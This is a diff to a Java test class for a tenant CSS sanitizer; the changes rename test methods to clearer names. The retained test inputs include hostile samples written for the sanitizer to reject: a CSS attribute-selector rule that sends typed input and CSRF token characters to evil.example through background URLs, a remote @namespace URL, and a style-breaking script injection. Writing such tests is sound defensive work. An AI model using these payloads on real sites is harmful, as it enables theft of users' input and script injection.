@@ -25,7 +25,7 @@ class TenantStylesheetTest {
   }
 
   @Test
-  void writesAnewWhatItUnderstood() throws StyleSheetException {
+  void rewritesParsedStylesheet() throws StyleSheetException {
     assertEquals(
         ".button.primary"
             + ProtectedSelectors.GUARD
@@ -51,7 +51,7 @@ class TenantStylesheetTest {
         "body { background: radial-gradient(circle at top, #fff, transparent 60%) no-repeat }",
         "\tinput\r\n{ text-decoration: underline dotted currentcolor 1px; font-weight: 650 }",
       })
-  void takesWhatColoursAndSpaces(String source) {
+  void acceptsColourAndSpacingRules(String source) {
     assertEquals(Optional.empty(), TenantStylesheet.objection(source));
   }
 
@@ -70,7 +70,7 @@ class TenantStylesheetTest {
         "'.a{}\n .b\\62{}' | Line 2, column 4: the character \\ is not allowed.",
         "'\n@import \"x\";' | Line 2, column 1: @import is not allowed.",
       })
-  void saysWhereAFaultIs(String source, String reason) {
+  void reportsErrorPosition(String source, String reason) {
     assertEquals(Optional.of(reason), TenantStylesheet.objection(source));
   }
 
@@ -96,7 +96,7 @@ class TenantStylesheetTest {
         "@namespace url(https://evil.example/);",
         "@charset \"utf-7\"; @import 'x';",
       })
-  void fetchesNothing(String source) {
+  void rejectsExternalResources(String source) {
     assertRefused(source);
   }
 
@@ -105,7 +105,7 @@ class TenantStylesheetTest {
    * that such a rule could fetch.
    */
   @Test
-  void tellsNobodyWhatIsTyped() {
+  void preventsInputExfiltrationByAttributeSelectors() {
     assertRefused("input[value^=\"a\"]{background:url(https://evil.example/a)}");
     assertRefused("input[name=\"csrf\"][value^=\"a\"]~*{background-image:url(//evil.example/a)}");
     assertEquals(Optional.empty(), TenantStylesheet.objection("input[value^=\"a\"]{color:red}"));
@@ -123,7 +123,7 @@ class TenantStylesheetTest {
         "</style><script>alert(1)</script>",
         "<!-- .a{color:red} -->",
       })
-  void runsNothing(String source) {
+  void rejectsActiveContent(String source) {
     assertRefused(source);
   }
 
@@ -203,7 +203,7 @@ class TenantStylesheetTest {
         "color:env(x)",
         "padding:min(1px,2px)",
       })
-  void hidesMovesCoversAndRelabelsNothing(String declaration) {
+  void rejectsHidingPositioningAndContentDeclarations(String declaration) {
     assertRefused(".a{" + declaration + "}");
   }
 
@@ -239,14 +239,14 @@ class TenantStylesheetTest {
         "@media (color){.a{color:red}}",
         "@media tv{.a{color:red}}",
       })
-  void takesNoOtherSelectorsAndRules(String source) {
+  void rejectsOtherSelectorsAndRules(String source) {
     assertRefused(source);
   }
 
   @ParameterizedTest
   @ValueSource(
       strings = {".a{col\\6fr:red}", ".\\61{color:red}", ".a{color:\\72 ed}", "@\\69mport 'x';"})
-  void takesNoWordsThatAreWrittenInEscapes(String source) {
+  void rejectsEscapedIdentifiers(String source) {
     assertRefused(source);
   }
 
@@ -259,21 +259,20 @@ class TenantStylesheetTest {
     "'main.card.fixed>form#x[action]{color:red}', main.card.fixed>form#x[action]",
     "'body .lead *{color:red}', body .lead *",
   })
-  void keepsEverySelectorFromTheFixedParts(String source, String selector)
+  void excludesProtectedPartsFromEverySelector(String source, String selector)
       throws StyleSheetException {
     assertEquals(selector + ProtectedSelectors.GUARD + "{color:red;}\n", own(source));
   }
 
   @Test
-  void keepsSelectorsFromTheFixedPartsInsideOfMediaAndBeforePseudoElements()
-      throws StyleSheetException {
+  void excludesProtectedPartsInMediaAndPseudoElements() throws StyleSheetException {
     assertEquals(
         "@media print{\n.a" + ProtectedSelectors.GUARD + "::before{color:red;}\n}\n",
         own("@media print{.a::before{color:red}}"));
   }
 
   @Test
-  void refusesWhatIsLongerThan64KibOrDeeplyNested() {
+  void rejectsOverlongOrDeeplyNestedStylesheet() {
     assertRefused("/*" + "x".repeat(64 * 1024) + "*/");
     assertRefused("/*" + "\u00e9".repeat(33 * 1024) + "*/");
     assertRefused(":not(".repeat(9) + "a" + ")".repeat(9) + "{color:red}");
@@ -281,7 +280,7 @@ class TenantStylesheetTest {
   }
 
   @Test
-  void takesAThousandSelectors() {
+  void limitsStylesheetToThousandSelectors() {
     String most = "a,".repeat(999) + "a{color:red}";
     assertEquals(Optional.empty(), TenantStylesheet.objection(most));
     assertRefused(most + "a{color:red}");
@@ -289,7 +288,7 @@ class TenantStylesheetTest {
 
   @ParameterizedTest
   @ValueSource(strings = {"a,", "a b ", "/*", "a{", "a{}", "((", ":not(a)", "\"", "@media ", "a:"})
-  void isDoneSoonWithWhateverIsRepeated(String part) {
+  void parsesRepetitiveInputInBoundedTime(String part) {
     assertTimeout(
         Duration.ofSeconds(10),
         () -> TenantStylesheet.objection(part.repeat(64 * 1024 / part.length())),
@@ -297,7 +296,7 @@ class TenantStylesheetTest {
   }
 
   @Test
-  void leavesNothingOfCommentsBehind() throws StyleSheetException {
+  void removesComments() throws StyleSheetException {
     assertFalse(own("/* </style> */ .a{color:/*x*/red}".replace("<", "")).contains("/*"));
   }
 }
